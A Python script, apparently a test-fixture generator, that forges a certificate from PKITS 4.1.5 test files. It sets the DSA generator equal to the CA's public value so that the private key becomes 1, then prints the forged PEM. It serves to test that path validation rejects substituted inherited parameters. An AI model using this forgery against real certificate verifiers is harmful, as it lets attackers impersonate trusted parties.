"""Writes dsa_forged.pem: a certificate forged with DSA parameters chosen by the forger.

The CA of PKITS 4.1.5 has a public value y and no parameters of its own. Whoever may choose its generator takes y
itself: then the private key is 1, and anything can be signed. Path building must not let a stranger's parameters,
offered under the name of the CA's issuer, stand for those of the issuer (RFC 3279 section 2.3.2).

    python forge_dsa.py > dsa_forged.pem
"""

import base64
import hashlib
import pathlib

PKITS = pathlib.Path(__file__).parent.parent / "pkits" / "certs"


def element(data, offset=0):
    """Header length and content length of the element at offset."""
    length, header = data[offset + 1], 2
    if length & 0x80:
        octets = length & 0x7F
        length = int.from_bytes(data[offset + 2 : offset + 2 + octets], "big")
        header += octets
    return header, length


def children(data, offset=0):
    """Offsets and ends of the elements inside the one at offset."""
    header, length = element(data, offset)
    position, end = offset + header, offset + header + length
    while position < end:
        child_header, child_length = element(data, position)
        yield position, position + child_header + child_length
        position += child_header + child_length


def content(data, span):
    header, _ = element(data, span[0])
    return data[span[0] + header : span[1]]


def spki(data):
    tbs = next(children(data))[0]
    return list(children(data, tbs))[6][0]


def integer(data, span):
    return int.from_bytes(content(data, span), "big")


def encode(tag, body):
    if len(body) < 0x80:
        return bytes([tag, len(body)]) + body
    octets = len(body).to_bytes((len(body).bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(octets)]) + octets + body


def encode_integer(number):
    return encode(0x02, number.to_bytes(number.bit_length() // 8 + 1, "big"))


issuer = (PKITS / "DSACACert.crt").read_bytes()
algorithm = next(children(issuer, spki(issuer)))[0]
parameters = list(children(issuer, algorithm))[1][0]
p, q, _ = (integer(issuer, span) for span in children(issuer, parameters))

inheriting = (PKITS / "DSAParametersInheritedCACert.crt").read_bytes()
bits = content(inheriting, list(children(inheriting, spki(inheriting)))[1])
y = integer(bits, (1, len(bits)))

leaf = (PKITS / "ValidDSAParameterInheritanceTest5EE.crt").read_bytes()
parts = list(children(leaf))
tbs = leaf[parts[0][0] : parts[0][1]].replace(b"EE Certificate", b"XX Certificate")
assert tbs != leaf[parts[0][0] : parts[0][1]]
generator, private_key, nonce = y, 1, 0x5EED
assert pow(generator, private_key, p) == y
digest = int.from_bytes(hashlib.sha1(tbs).digest(), "big")
r = pow(generator, nonce, p) % q
s = pow(nonce, -1, q) * (digest + private_key * r) % q
value = encode(0x03, b"\0" + encode(0x30, encode_integer(r) + encode_integer(s)))
forged = encode(0x30, tbs + leaf[parts[1][0] : parts[1][1]] + value)
print("-----BEGIN CERTIFICATE-----")
text = base64.b64encode(forged).decode()
print("\n".join(text[start : start + 64] for start in range(0, len(text), 64)))
print("-----END CERTIFICATE-----")
